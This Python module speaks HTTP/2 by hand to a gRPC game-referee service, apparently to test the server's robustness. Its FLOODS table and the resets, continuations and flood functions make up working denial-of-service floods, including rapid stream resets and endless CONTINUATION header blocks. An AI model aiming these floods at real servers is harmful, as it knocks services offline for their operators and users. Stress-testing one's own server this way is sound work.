"""Speaks HTTP/2 by hand, so that a bot can send frames that no gRPC library would."""

import socket
import ssl
import struct
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(stream, *, end=True):
    """What opens a call of Play."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/crosstown.v1.Referee/Play"),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    block = b"".join(_field(name, value) for name, value in fields)
    return frame(HEADERS, END_HEADERS if end else 0, stream, block)


def message(stream, data):
    """One gRPC message."""
    return frame(DATA, 0, stream, b"\0" + struct.pack(">I", len(data)) + data)


class Connection:
    """A connection with one call, to a path or to (host, port)."""

    def __init__(self, address, wrap=lambda line: line):
        self.line = wrap(connect(address))
        self.line.sendall(PREFACE + frame(SETTINGS))
        self._bytes = b""
        self._data = b""

    def open(self, stream=1):
        self.line.sendall(headers(stream))

    def send(self, data, stream=1):
        self.line.sendall(message(stream, data))

    def receive(self):
        """The next message, or None at the end of the connection or of the call. Answers what has to be answered."""
        while len(self._data) < 5 or len(self._data) < 5 + int.from_bytes(self._data[1:5], "big"):
            found = self._frame()
            if found is None:
                return None
            kind, flags, stream, payload = found
            if kind == DATA:
                self._data += payload
                if payload:
                    size = struct.pack(">I", len(payload))
                    self.line.sendall(frame(WINDOW_UPDATE, payload=size) + frame(WINDOW_UPDATE, 0, stream, size))
            elif kind in (SETTINGS, PING) and not flags & ACK:
                self.line.sendall(frame(kind, ACK, payload=payload if kind == PING else b""))
            elif kind in (RST_STREAM, GOAWAY) or (kind == HEADERS and flags & END_STREAM):
                return None
        size = 5 + int.from_bytes(self._data[1:5], "big")
        found, self._data = self._data[5:size], self._data[size:]
        return found

    def _frame(self):
        while len(self._bytes) < 9 or len(self._bytes) < 9 + int.from_bytes(self._bytes[:3], "big"):
            with suppress(ConnectionError):
                if more := self.line.recv(65536):
                    self._bytes += more
                    continue
            return None
        size = 9 + int.from_bytes(self._bytes[:3], "big")
        head, payload, self._bytes = self._bytes[:9], self._bytes[9:size], self._bytes[size:]
        return head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload


def connect(address):
    if isinstance(address, str):
        line = socket.socket(socket.AF_UNIX)
        line.connect(address.removeprefix("unix:"))
        return line
    return socket.create_connection(address)


FLOODS = {
    "ping": frame(PING, payload=bytes(8)),
    "settings": frame(SETTINGS, payload=b"\0\3\0\0\0\x64"),
    "window_update": frame(WINDOW_UPDATE, payload=b"\0\0\0\1"),
    "priority": frame(PRIORITY, 0, 5, b"\0\0\0\0\x10"),
    "unknown": frame(0x77, payload=bytes(16)),
    "empty_data": frame(DATA, 0, 1),
    "tiny_messages": message(1, b""),
    "goaway": frame(GOAWAY, payload=bytes(8)),
}
"""Frames that can be sent again and again as they are."""


def resets(number):
    """A call opened and reset: `number` counts from 1."""
    stream = 2 * number + 1
    return headers(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def continuations(number):
    """A header block that does not end."""
    return headers(3, end=False) if number == 1 else frame(CONTINUATION, 0, 3)


def chunk(deed, number):
    """Some frames of a flood, as bytes; `number` counts the chunks from 0."""
    if deed in FLOODS:
        return FLOODS[deed] * 1000
    make = resets if deed == "resets" else continuations
    return b"".join(make(number * 100 + one) for one in range(1, 101))


NOT_NOW = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


DEEDS = (*FLOODS, "resets", "continuations")


def flood(line, deed, seconds, clock):
    """Send the frames and read what comes, until the other side closes or the time is up. How many chunks were sent."""
    line.setblocking(False)
    number, at, data = 0, 0, chunk(deed, 0)
    end = clock() + seconds
    while clock() < end:
        try:
            at += line.send(data[at:])
            if at == len(data):
                number, at = number + 1, 0
                data = chunk(deed, number)
        except NOT_NOW:
            pass
        except OSError:
            break
        try:
            if line.recv(1 << 20) == b"":
                break
        except NOT_NOW:
            pass
        except OSError:
            break
    return number
